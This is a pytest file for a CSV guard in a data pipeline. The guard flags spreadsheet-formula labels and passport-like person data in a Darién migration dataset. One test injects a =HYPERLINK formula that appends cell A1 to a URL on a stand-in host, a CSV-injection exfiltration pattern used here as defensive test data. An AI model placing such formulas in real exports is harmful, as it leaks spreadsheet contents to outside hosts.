"""The person-data and formula guard on an extracted file's labels (transforms/stages/guard.py), on both
CSV paths: the same findings, naming the file, the first rows and the column, whichever path read
the file (the guard reads the labels of the rows once per row, not once per cell)."""

from __future__ import annotations

from pathlib import Path

import pytest

from transforms.contracts.loading import load_contracts
from transforms.stages import guard
from transforms.stages.extract import extract

DARIEN = (
    Path(__file__).resolve().parent.parent
    / "data"
    / "realdata"
    / "raw"
    / "panama_darien_2019-2022_by_nationality_derived.csv"
)


def _findings(path: Path, monkeypatch, fast: bool) -> list[str]:
    monkeypatch.setenv("OMH_FAST_CSV_BYTES", "1" if fast else str(1 << 40))
    contract = load_contracts()["pan_darien_yearly"]
    ex = extract(path, contract)
    try:
        assert (ex.staged is not None) == fast
        return guard.label_findings(ex, contract, path.name)
    finally:
        ex.cleanup()


def _variant(tmp_path: Path, replace: dict[str, str]) -> Path:
    text = DARIEN.read_text(encoding="utf-8")
    for old, new in replace.items():
        assert old in text
        text = text.replace(old, new)
    path = tmp_path / "darien_variant.csv"
    path.write_text(text, encoding="utf-8")
    return path


@pytest.mark.parametrize("fast", [False, True])
def test_formula_labels_are_found_with_their_first_rows(fast, tmp_path, monkeypatch):
    path = _variant(
        tmp_path,
        {"Cuba,2021": '"=HYPERLINK(""http://x.example/?""&A1,""Cuba"")",2021', "Haití,2019": "+Haití,2019"},
    )
    found = _findings(path, monkeypatch, fast)
    assert len(found) == 2, found
    lines = {line: n for n, line in enumerate(path.read_text(encoding="utf-8").splitlines(), start=1)}
    plus = next(n for line, n in lines.items() if line.startswith("+Haití"))
    eq = next(n for line, n in lines.items() if line.startswith('"=HYPERLINK'))
    first, second = sorted([(plus, "'+'"), (eq, "'='")])
    assert found[0].startswith(f"darien_variant.csv: row {first[0]}, column 'toShow': label ")
    assert f"starts with {first[1]}" in found[0] and f"starts with {second[1]}" in found[1]
    assert found[1].startswith(f"darien_variant.csv: row {second[0]}, column 'toShow'")


@pytest.mark.parametrize("fast", [False, True])
def test_document_numbers_as_labels_are_person_level_and_never_quoted(fast, tmp_path, monkeypatch):
    passports = {
        f"{name},": f"AB{123456 + i},".replace(",", ",")
        for i, name in enumerate(("Brasil", "Cuba", "Haití", "Chile"))
    }
    path = _variant(tmp_path, passports)
    found = _findings(path, monkeypatch, fast)
    assert len(found) == 1 and "person-level data: column 'toShow' holds 4 values" in found[0], found
    assert "AB123456" not in found[0]


def test_a_clean_file_has_no_findings(monkeypatch):
    for fast in (False, True):
        assert _findings(DARIEN, monkeypatch, fast) == []
